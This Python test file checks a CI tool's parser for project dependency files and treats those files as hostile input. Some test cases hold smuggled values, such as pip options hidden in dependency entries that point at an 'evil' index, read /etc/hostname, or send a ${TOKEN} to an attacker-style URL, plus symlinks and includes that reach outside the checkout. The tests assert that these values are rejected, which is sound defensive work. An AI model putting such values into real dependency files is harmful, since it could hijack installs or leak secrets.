"""What a project asks for, from the files in which projects say so; those files are hostile input."""

from pathlib import Path

import pytest

from fullautoci.environments.choice import Choice
from fullautoci.environments.locked import Locked
from fullautoci.environments.pins import names
from fullautoci.environments.requirements import wanted
from fullautoci.errors import PreparationError


def asked(folder: Path, files: dict[str, str | bytes]) -> tuple[str, ...]:
    for name, content in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(content if isinstance(content, bytes) else content.encode())
    return wanted(folder).lines


GROUPS = '[dependency-groups]\nbase = ["attrs"]\ntest = ["pytest>=8", {include-group = "base"}]\ndev = ["unwanted"]\n'


@pytest.mark.parametrize(
    ("files", "expected"),
    [
        ({}, ""),
        ({"pyproject.toml": '[project]\nname="p"\nversion="1"\ndependencies = ["b>1", "a", "a"]\n'}, "a|b>1"),
        ({"pyproject.toml": '[project.optional-dependencies]\ntest = ["t"]\ndev = ["d"]\ndocs = ["x"]\n'}, "t"),
        ({"pyproject.toml": '[project.optional-dependencies]\ndev = ["d"]\ndocs = ["x"]\n'}, "d"),
        ({"pyproject.toml": '[project.optional-dependencies]\ndocs = ["x"]\n'}, ""),
        ({"pyproject.toml": GROUPS}, "attrs|pytest>=8"),
        ({"setup.cfg": "[options]\ninstall_requires =\n  a>1 # y\n  b\n[options.extras_require]\ntest=c\n"}, "a>1|b|c"),
        ({"setup.cfg": "[options]\ninstall_requires = a; python_version > '3'\n"}, "a; python_version > '3'"),
        ({"setup.cfg": "[metadata]\ndescription = 100%\n"}, ""),
        ({"requirements.txt": "# head\na==1 # why\n\n  b\n"}, "a==1|b"),
        ({"requirements.txt": "a\n", "requirements-test.txt": "b\n", "requirements-dev.txt": "unwanted\n"}, "a|b"),
        ({"requirements/dev.txt": "d\n", "dev-requirements.txt": "e\n"}, "d|e"),
        ({"tests/requirements.txt": "t\n"}, "t"),
        ({"requirements.txt": "a==1 \\\n    --hash=sha256:cd \\\n    --hash sha256:ab\nb\n"},
         "a==1 --hash=sha256:ab --hash=sha256:cd|b"),
        ({"requirements.txt": "a==1 \\\r\n    --hash=sha256:ab\r\nb\r\n"}, "a==1 --hash=sha256:ab|b"),
        ({"requirements.txt": "a>=1 --hash=sha256:ab\n"}, "a>=1"),
        ({"requirements.txt": "-e .\n-e git+https://x/y#egg=y\n.\n./lib\n.[test]\nfile:x\n--editable=.\na\n"}, "a"),
        ({"requirements.txt": "-i https://x\n--pre\n--index-url https://x\n--find-links=x\na\n"}, "a"),
        ({"requirements.txt": "git+https://x/y#egg=y\nz @ https://x/z # why\n"}, "git+https://x/y#egg=y|z @ https://x/z"),
        ({"requirements.txt": "-r more/b.txt\na\n", "more/b.txt": "-r c.txt\nb\n", "more/c.txt": "c\n"}, "a|b|c"),
        ({"requirements.txt": "--requirement=b.txt\n-rc.txt\n-r missing.txt\n", "b.txt": "b\n", "c.txt": "c\n"}, "b|c"),
        ({"requirements.txt": b"\xef\xbb\xbfa\n"}, "a"),
        ({"requirements.txt": b"a # \xff\n"}, "a"),
    ],
)  # fmt: skip
def test_what_is_asked_for(tmp_path: Path, files: dict[str, str | bytes], expected: str) -> None:
    found = asked(tmp_path, files)
    assert found == (tuple(expected.split("|")) if expected else ())


def test_nothing_found_is_nothing_asked(tmp_path: Path) -> None:
    assert asked(tmp_path, {"README": "x"}) == ()


def test_a_file_named_by_setup_cfg_is_read_and_is_no_requirement_itself(tmp_path: Path) -> None:
    files = {"setup.cfg": "[options]\ninstall_requires = file: deps.txt\n", "deps.txt": "a\n"}
    assert asked(tmp_path, files) == ("a",)


def test_a_constraint_asks_for_nothing_by_itself(tmp_path: Path) -> None:
    files = {"requirements.txt": "a\n-c constraints.txt\n", "constraints.txt": "a==1\nunrelated==2\n"}
    assert names(asked(tmp_path, files)) == {"a"}


def test_only_a_build_can_tell_what_setup_py_asks_for(tmp_path: Path) -> None:
    asked(tmp_path, {"setup.py": ""})
    assert wanted(tmp_path).dynamic == ("setup.py",)
    asked(tmp_path, {"pyproject.toml": '[project]\nname="p"\nversion="1"\n'})
    assert wanted(tmp_path).dynamic == ()
    asked(tmp_path, {"pyproject.toml": '[project]\nname="p"\nversion="1"\ndynamic=["dependencies"]\n'})
    assert wanted(tmp_path).dynamic == ("setup.py",)


@pytest.mark.parametrize("name", ["requirements.txt", "pyproject.toml", "setup.cfg"])
def test_a_link_out_of_the_checkout_is_not_read(tmp_path: Path, name: str) -> None:
    outside = {
        "requirements.txt": "secret\n",
        "pyproject.toml": '[project]\nname="p"\ndependencies=["secret"]\n',
        "setup.cfg": "[options]\ninstall_requires = secret\n",
    }
    (tmp_path / "outside").write_text(outside[name])
    checkout = tmp_path / "checkout"
    checkout.mkdir()
    (checkout / name).symlink_to(tmp_path / "outside")
    assert wanted(checkout).lines == ()


@pytest.mark.parametrize(
    "include", ["-r ../outside.txt", "-r {folder}/outside.txt", "-r link.txt", "-c {folder}/outside.txt"]
)
def test_an_include_out_of_the_checkout_is_not_read(tmp_path: Path, include: str) -> None:
    (tmp_path / "outside.txt").write_text("secret\n")
    checkout = tmp_path / "checkout"
    checkout.mkdir()
    (checkout / "link.txt").symlink_to(tmp_path / "outside.txt")
    try:
        assert asked(checkout, {"requirements.txt": include.format(folder=tmp_path) + "\na\n"}) == ("a",)
    except PreparationError as error:
        assert "requirements.txt" in error.message or "outside.txt" in error.message  # noqa: PT017


@pytest.mark.parametrize(
    "files",
    [
        {"requirements.txt": "-r requirements.txt\n"},
        {"requirements.txt": "-r b.txt\n", "b.txt": "a\n-r requirements.txt\n"},
        {"pyproject.toml": "[project\n"},
        {"pyproject.toml": '[dependency-groups]\ntest = [{include-group = "test"}]\n'},
        {"pyproject.toml": '[dependency-groups]\ntest = [{include-group = "missing"}]\n'},
        {"pyproject.toml": '[dependency-groups]\ntest = ["not a requirement!"]\n'},
        {"pyproject.toml": "[dependency-groups]\ntest = 5\n"},
        {"setup.cfg": "no section\n"},
        {"setup.cfg": "[a]\n[a\nb\n"},
        {"requirements.txt": "a\n" * 600_000},
        {"pyproject.toml": "#" * (1024 * 1024 + 1)},
    ],
    ids=range(11),
)
def test_what_cannot_be_read_is_a_preparation_error(tmp_path: Path, files: dict[str, str | bytes]) -> None:
    with pytest.raises(PreparationError):
        asked(tmp_path, files)


@pytest.mark.parametrize(
    "text",
    [
        "project = 5",
        "project = []",
        "dependency-groups = 5",
        'dependency-groups = ["test"]',
        "[project]\ndependencies = 5",
        "[project]\ndynamic = 5",
        "[project]\noptional-dependencies = 5",
        '[project]\noptional-dependencies = ["test"]',
        "[project]\ndependencies = [5, {a = 1}]",
    ],
)
def test_wrong_types_are_ignored_or_a_preparation_error(tmp_path: Path, text: str) -> None:
    try:
        assert asked(tmp_path, {"pyproject.toml": text + "\n"}) == ()
    except PreparationError as error:
        assert "pyproject.toml" in error.message  # noqa: PT017 - either way is right


def test_names_are_canonical_and_what_has_none_is_left_out() -> None:
    assert names(("My_Pkg[x]>=1; python_version>'3'", "b @ https://x/b.whl", "git+https://x/y", "!!")) == {
        "my-pkg",
        "b",
    }


CHOOSABLE = {
    "pyproject.toml": '[project]\nname="p"\nversion="1"\ndependencies=["always"]\n[project.optional-dependencies]\n'
    'test=["t"]\nFast_X=["f"]\n[dependency-groups]\ntest=["gt"]\ndocs=["gd"]\n',
    "setup.cfg": "[options.extras_require]\nold=o\ntest=ot\n",
    "requirements.txt": "r\n",
    "requirements-test.txt": "rt\n",
    "ci/asked.txt": "-r more.txt\n",
    "ci/more.txt": "m\n",
}


@pytest.mark.parametrize(
    ("choice", "expected", "sources"),
    [
        (Choice(), "always|gt|ot|r|rt|t", "pyproject.toml|setup.cfg|requirements.txt|requirements-test.txt"),
        (Choice(extras=()), "always|gt|r|rt", "pyproject.toml|requirements.txt|requirements-test.txt"),
        (Choice(extras=("fast-x", "old"), requirements=()), "always|f|gt|o", "pyproject.toml|setup.cfg"),
        (Choice(groups=("docs", "test"), requirements=()), "always|gd|gt|ot|t", "pyproject.toml|setup.cfg"),
        (Choice((), (), ("ci/asked.txt",)), "always|m", "pyproject.toml|ci/asked.txt"),
        (Choice((), (), ()), "always", "pyproject.toml"),
    ],
)
def test_a_choice_replaces_what_is_taken_by_name(tmp_path: Path, choice: Choice, expected: str, sources: str) -> None:
    asked(tmp_path, dict(CHOOSABLE))
    found = wanted(tmp_path, choice)
    assert "|".join(found.lines) == expected
    assert "|".join(found.sources) == sources


@pytest.mark.parametrize(
    ("choice", "what", "there"),
    [
        (Choice(extras=("nope",)), "no extra 'nope'", "Fast_X, old, test"),
        (Choice(groups=("nope",)), "no dependency group 'nope'", "docs, test"),
        (Choice(requirements=("nope.txt",)), "no requirements file 'nope.txt'", "requirements-test.txt, requi"),
    ],
)  # fmt: skip
def test_what_was_chosen_and_is_not_there(tmp_path: Path, choice: Choice, what: str, there: str) -> None:
    asked(tmp_path, dict(CHOOSABLE))
    with pytest.raises(PreparationError) as caught:
        wanted(tmp_path, choice)
    assert what in caught.value.message
    assert there in caught.value.hint


def test_what_was_chosen_where_there_is_nothing(tmp_path: Path) -> None:
    for choice in (Choice(extras=("a",)), Choice(groups=("a",)), Choice(requirements=("a",))):
        with pytest.raises(PreparationError) as caught:
            wanted(tmp_path, choice)
        assert "there are" not in caught.value.hint


@pytest.mark.parametrize(
    ("lock", "choice", "expected", "sources"),
    [
        (Locked("uv.lock", ("a==1",), groups=("test",)), Choice(), "", "uv.lock"),
        (Locked("uv.lock", ("a==1",)), Choice(), "rt", "uv.lock|requirements-test.txt"),
        (Locked("uv.lock", (), groups=("test",)), Choice(requirements=("ci/more.txt",)), "m", "uv.lock|ci/more.txt"),
        (Locked("uv.lock", ()), Choice(requirements=()), "", "uv.lock"),
    ],
)  # fmt: skip
def test_with_a_lock_file(tmp_path: Path, lock: Locked, choice: Choice, expected: str, sources: str) -> None:
    asked(tmp_path, {**CHOOSABLE, "setup.py": ""})
    found = wanted(tmp_path, choice, lock)
    assert ("|".join(found.lines), "|".join(found.sources)) == (expected, sources)
    assert (found.locked, found.dynamic) == (lock.lines, ())


def test_options_as_the_planner_gives_them() -> None:
    assert Choice.of({}) == Choice()
    assert Choice.of({"extras": None, "groups": None, "requirements": None, "lock": "auto"}) == Choice()
    assert Choice.of({"extras": [], "groups": ["a"], "lock": "off"}) == Choice((), ("a",), None, lock=False)


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("pyproject.toml", '[project]\nname="p"\nversion="1"\ndependencies = ["--index-url=https://evil/simple"]\n'),
        ("pyproject.toml", '[project]\nname="p"\nversion="1"\ndependencies = ["-r /etc/hostname"]\n'),
        ("pyproject.toml", '[project]\nname="p"\nversion="1"\ndependencies = ["a\\n--find-links /x"]\n'),
        ("pyproject.toml", '[project]\nname="p"\nversion="1"\ndependencies = ["a @ https://evil/${TOKEN}/a.whl"]\n'),
        ("pyproject.toml", '[project.optional-dependencies]\ntest = ["--pre"]\n'),
        ("setup.cfg", "[options]\ninstall_requires =\n  --index-url=https://evil\n"),
    ],
)
def test_metadata_has_requirements_and_no_options(name: str, text: str, tmp_path: Path) -> None:
    with pytest.raises(PreparationError, match="is no requirement"):
        asked(tmp_path, {name: text})


def test_a_key_of_too_many_parts_is_refused_before_it_is_read(tmp_path: Path) -> None:
    with pytest.raises(PreparationError, match="more than 300 dots"):
        asked(tmp_path, {"pyproject.toml": ".".join("a" * 20000) + " = 1\n"})
    quoted = '[project]\nname="p"\nversion="1"\ndescription = "' + "." * 5000 + '"\ndependencies = ["a"]\n'
    assert asked(tmp_path, {"pyproject.toml": quoted}) == ("a",)
